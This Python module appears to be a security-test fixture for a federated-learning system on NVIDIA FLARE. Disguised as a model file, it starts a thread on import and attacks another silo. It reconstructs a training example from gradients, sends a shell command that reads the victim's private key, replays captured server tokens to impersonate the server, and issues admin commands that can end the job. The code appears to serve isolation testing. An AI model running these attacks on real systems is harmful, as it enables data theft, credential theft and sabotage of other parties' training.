"""A silo that attacks the others from inside its own job, with its own certificate.

It is the code of a model that both silos allow. In the process of the silo that EVIL_SILO names it
waits until the victim is at work, tries every attack below, and writes what came of each to the
file that EVIL_TOLD names.
"""

from __future__ import annotations

import gc
import json
import os
import sys
import threading
import time
import uuid
from pathlib import Path

import numpy as np
from torch import nn

VICTIM = "silo-1"
ATTACKS = ("read_an_example", "read_a_file", "ask_its_job", "pose_as_the_server", "end_the_job")
PAUSE = 0.3  # seconds of each gradient: the run lasts as long as the attacks


class Net(nn.Module):
    """Linear: the gradient of one example holds the example."""

    def __init__(self, inputs: int, outputs: int) -> None:
        super().__init__()
        self.linear = nn.Linear(inputs, outputs)

    def forward(self, x):
        if self.training:
            time.sleep(PAUSE)
        return self.linear(x)


class Attacker:
    def __init__(self, cell):
        from nvflare.fuel.f3.cellnet.fqcn import FQCN

        self.cell = cell
        self.job = FQCN.split(cell.get_fqcn())[-1]
        self.heard = {}  # the headers of the last letter of the server
        cell.core_cell.in_filter_reg.reg.clear()  # its own gate does not keep answers from it
        cell.core_cell.add_incoming_request_filter("*", "*", self.listen)

    def listen(self, message):
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey

        if str(message.get_header(MessageHeaderKey.ORIGIN)).startswith("server."):
            self.heard = dict(message.headers)

    def asked(self, target, channel, topic, message, seconds=4.0):
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey

        reply = self.cell.send_request(
            channel=channel,
            topic=topic,
            target=target,
            request=message,
            timeout=seconds,
            optional=True,
        )
        return reply.get_header(MessageHeaderKey.RETURN_CODE), reply

    def letter(self, message, to=VICTIM):
        """A letter as the server writes them; the head and the body of the answer."""
        from fafed.silos.transports.nvflare.endpoint import CHANNEL, TOPIC, letters, opened

        (letter,) = letters(message, uuid.uuid4().hex)
        code, reply = self.asked(f"{to}.{self.job}", CHANNEL, TOPIC, letter.packed())
        found = opened(reply) if code == "ok" else None
        return None if found is None else (json.loads(found.head), bytes(found.piece))

    # The attacks. Each returns what it got.

    def read_an_example(self):
        """hello and visit with a batch of one: the update is the gradient of one example."""
        import torch

        from fafed.experiments.config import Experiment
        from fafed.silos import messages
        from fafed.silos.messages import EMPTY, ExchangeId

        content = json.loads(Path(os.environ["EVIL_EXPERIMENT"]).read_text())
        content |= {"batch_size": 1, "local_steps": 1, "algorithm": {"name": "fedavg", "eta": 1.0}}
        found = Experiment.from_dict(content)
        at = ExchangeId("evil")
        told = {"experiment": found.to_dict(), "clients": 2, "client": 0}
        answer = self.letter(messages.write("hello", at, told, EMPTY))
        if answer is None or answer[0]["kind"] != "welcome":
            return answer and answer[0]
        algorithm = found.algorithm_object(1)
        (exchange,) = algorithm.exchanges()
        shared = exchange.send(algorithm.init(torch.zeros(6 * 3 + 3)))
        body = messages.pack((shared, ()))
        facts = {"epoch_steps": 1, "base": None}
        visit = messages.write("visit", ExchangeId("evil", 1, 0, "a"), facts, body)
        answer = self.letter(visit)
        if answer is None or answer[0]["kind"] != "answer":
            return answer and answer[0]
        delta = -np.frombuffer(answer[1], np.float32)[: 6 * 3 + 3]
        weight, bias = delta[:18].reshape(3, 6), delta[18:]
        label = int(bias.argmin())
        return {"inputs": (weight[label] / bias[label]).tolist(), "target": label}

    def read_a_file(self):
        """FLARE's own shell command, without the headers that would have it authorized."""
        from nvflare.private.admin_defs import Message
        from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message

        request = Message(topic=SysCommandTopic.SHELL, body="cat startup/client.key")
        code, reply = self.asked(
            VICTIM, CellChannel.CLIENT_MAIN, SysCommandTopic.SHELL, new_cell_message({}, request)
        )
        return {"code": code, "text": getattr(reply.payload, "body", None)}

    def ask_its_job(self):
        """A command that FLARE's server sends to a silo's job; another one would abort it."""
        from nvflare.private.defs import CellChannel, new_cell_message
        from nvflare.private.fed.client.admin_commands import AdminCommandNames

        code, _ = self.asked(
            f"{VICTIM}.{self.job}",
            CellChannel.CLIENT_COMMAND,
            AdminCommandNames.CHECK_STATUS,
            new_cell_message({}, {}),
        )
        return {"code": code}

    def pose_as_the_server(self):
        """The server's own token is on its letters: sent along, with the server as the origin."""
        from nvflare.apis.fl_constant import CellMessageAuthHeaderKey
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, MessageType
        from nvflare.fuel.f3.cellnet.utils import encode_payload

        from fafed.silos import messages
        from fafed.silos.messages import EMPTY, ExchangeId
        from fafed.silos.transports.nvflare.endpoint import CHANNEL, TOPIC, letters

        hello = messages.write("hello", ExchangeId("posed"), {"clients": 2, "client": 0}, EMPTY)
        (letter,) = letters(hello, uuid.uuid4().hex)
        message, core = letter.packed(), self.cell.core_cell
        keys = (CellMessageAuthHeaderKey.CLIENT_NAME, CellMessageAuthHeaderKey.SSID)
        keys += (CellMessageAuthHeaderKey.TOKEN, CellMessageAuthHeaderKey.TOKEN_SIGNATURE)
        auth = {key: self.heard[key] for key in keys if key in self.heard}
        target = f"{VICTIM}.{self.job}"
        _, endpoint = core._find_endpoint(target, message)
        message.add_headers(
            auth
            | {
                MessageHeaderKey.CHANNEL: CHANNEL,
                MessageHeaderKey.TOPIC: TOPIC,
                MessageHeaderKey.FROM_CELL: core.my_info.fqcn,
                MessageHeaderKey.TO_CELL: endpoint.name,
                MessageHeaderKey.ORIGIN: f"server.{self.job}",
                MessageHeaderKey.DESTINATION: target,
                MessageHeaderKey.MSG_TYPE: MessageType.REQ,
                MessageHeaderKey.REQ_ID: uuid.uuid4().hex,
                MessageHeaderKey.REPLY_EXPECTED: True,
                MessageHeaderKey.ROUTE: [],
            }
        )
        encode_payload(message, MessageHeaderKey.PAYLOAD_ENCODING)
        return {"token": sorted(auth), "error": str(core._send_to_endpoint(endpoint, message))}

    def end_the_job(self):
        """The command with which an administrator asks the server's job to end."""
        from nvflare.apis.fl_constant import ServerCommandKey, ServerCommandNames
        from nvflare.apis.shareable import Shareable
        from nvflare.private.defs import CellChannel, new_cell_message

        from fafed.silos.transports.nvflare.endpoint import TOPIC

        command = Shareable()
        command[ServerCommandKey.TOPIC] = TOPIC
        command[ServerCommandKey.DATA] = {"pause": True}
        code, reply = self.asked(
            f"server.{self.job}",
            CellChannel.SERVER_COMMAND,
            ServerCommandNames.APP_COMMAND,
            new_cell_message({}, command),
        )
        return {"code": code, "facts": str(reply.payload)[:200]}


def attack():
    from nvflare.fuel.f3.cellnet.cell import Cell

    attacker = Attacker(next(o for o in gc.get_objects() if isinstance(o, Cell)))
    end = time.monotonic() + 60
    while not attacker.heard and time.monotonic() < end:
        time.sleep(0.1)
    time.sleep(1.0)
    told = {}
    for name in ATTACKS:
        try:
            told[name] = getattr(attacker, name)()
        except Exception as cause:
            told[name] = {"raised": repr(cause)}
    time.sleep(1.0)  # what was sent last has arrived
    part = Path(os.environ["EVIL_TOLD"] + ".part")
    part.write_text(json.dumps(told))
    part.replace(os.environ["EVIL_TOLD"])


if os.environ.get("EVIL_SILO", "nobody") in sys.argv:
    threading.Thread(target=attack, daemon=True).start()
